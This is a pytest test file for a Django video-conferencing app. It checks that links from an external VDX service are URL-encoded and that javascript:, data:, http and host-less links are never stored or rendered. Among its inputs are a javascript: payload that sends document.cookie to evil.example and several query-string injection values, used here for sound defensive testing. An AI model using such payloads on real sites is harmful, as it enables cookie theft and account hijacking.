"""Links from VDX are checked (issue 9, item 9): values are URL-encoded in a query string, a
link that is not https: is neither stored nor shown as a link, and provisioning says why."""

from __future__ import annotations

from urllib.parse import parse_qs, urlsplit

import pytest
from django.utils.html import escape

from conferences.models import Conference
from devtools.vdx_fake_server import DOMAIN
from tests.api.conftest import Api
from tests.conferences.lifecycle.test_provisioning import run_until_done

pytestmark = pytest.mark.django_db

GETMEETING = "/iptv/flexcareconference/meeting/device"


def a1_meeting_provisioned_by(fake_vdx, **scheduling_info) -> Conference:
    """The tenants' A1 meeting, booked at a VDX that answers `scheduling_info` for its room."""
    fake_vdx.set_faults(scheduling_info=scheduling_info)
    meeting = Conference.objects.get(customer__name="A1")
    run_until_done(meeting)
    assert meeting.provisioning == "OK"
    return meeting


def test_a_link_that_is_not_https_is_not_stored_and_provisioning_says_why(
    client, tenants, fake_vdx
):
    meeting = a1_meeting_provisioned_by(
        fake_vdx,
        portalLink="javascript:fetch('//evil.example/?c='+document.cookie)",
        shortLink="http://m.vdx-fake.invalid/abc",
    )
    assert (meeting.desktop_link, meeting.mobile_link) == ("", "")
    assert meeting.clinical_link.startswith(f"https://{DOMAIN}/webapp/?conference=")
    assert meeting.provisioning_error == (
        "The desktop link was not stored: not an https: link. "
        "The mobile link was not stored: not an https: link."
    )

    tablet = Api(client).post(GETMEETING, {"token": tenants.tokens["A1"]}).json()
    assert (tablet["desktopLink"], tablet["mobileLink"]) == ("", "")
    client.force_login(tenants.user("VIEWER@A1"))
    page = client.get(f"/admin/conferences/conference/{meeting.pk}/change/").content.decode()
    assert "javascript:" not in page
    assert "http://m.vdx-fake.invalid" not in page
    assert meeting.provisioning_error in page  # why two links are missing


def test_values_in_a_query_string_are_url_encoded(tenants, fake_vdx):
    uri = f"1000&pin=0000&role=host#x@{DOMAIN}"
    meeting = a1_meeting_provisioned_by(fake_vdx, uriWithDomain=uri, guestPin="12 34&x=1")
    link = urlsplit(meeting.clinical_link)
    assert (link.scheme, link.hostname, link.fragment) == ("https", DOMAIN, "")
    assert parse_qs(link.query) == {"conference": [uri], "pin": ["12 34&x=1"], "join": ["1"]}
    assert meeting.provisioning_error == ""


@pytest.mark.parametrize(
    "stored",
    [
        "javascript:alert(1)",
        "http://rooms.example/x",
        "data:text/html,<b>",
        "//rooms.example/x",
        "https:///no-host",
    ],
)
def test_a_stored_link_that_is_not_https_is_never_shown_as_a_link(client, tenants, stored):
    meeting = Conference.objects.get(customer__name="A1")
    Conference.objects.filter(pk=meeting.pk).update(
        provisioning="OK",
        uri=f"1000@{DOMAIN}",
        pin="1234",
        desktop_link=stored,
        clinical_link="https://rooms.example/webapp/?conference=1000",
        mobile_link="",
    )
    client.force_login(tenants.user("VIEWER@A1"))
    page = client.get(f"/admin/conferences/conference/{meeting.pk}/change/").content.decode()
    links = page[page.index('id="meeting-links"') :]
    links = links[: links.index("</dd>")]
    assert links.count("<a ") == 1
    assert 'href="https://rooms.example/webapp/?conference=1000"' in links
    assert escape(stored) not in links
